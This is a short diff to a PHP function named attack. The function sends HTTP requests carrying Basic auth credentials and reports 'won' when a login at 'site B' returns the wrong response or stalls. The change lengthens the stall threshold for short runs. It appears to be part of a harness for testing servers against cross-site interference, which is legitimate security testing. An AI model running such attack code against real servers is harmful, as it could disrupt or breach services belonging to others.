@@ -34,6 +34,8 @@ function attack(string $address, string $seconds, string $loot): void
         . base64_encode("$user:$password") . "\r\nConnection: close\r\n\r\n";
     $guesses = [];
     $innocent = null;
+    // A short attack on a busy machine is no measurement.
+    $patience = $seconds < 5 ? 60 : 5;
     $turn = 0;
     for ($until = microtime(true) + $seconds; microtime(true) < $until; usleep(2_000)) {
         while (count($guesses) < 16) {
@@ -68,8 +70,8 @@ function attack(string $address, string $seconds, string $loot): void
                 $report("won: a login at site B got " . strtok($text . "\r", "\r") . " instead of $expected");
             }
             $innocent = null;
-        } elseif (microtime(true) - $asked > 5) {
-            $report('won: a login at site B waits for more than five seconds');
+        } elseif (microtime(true) - $asked > $patience) {
+            $report("won: a login at site B waits for more than $patience seconds");
             $innocent = null;
         }
     }
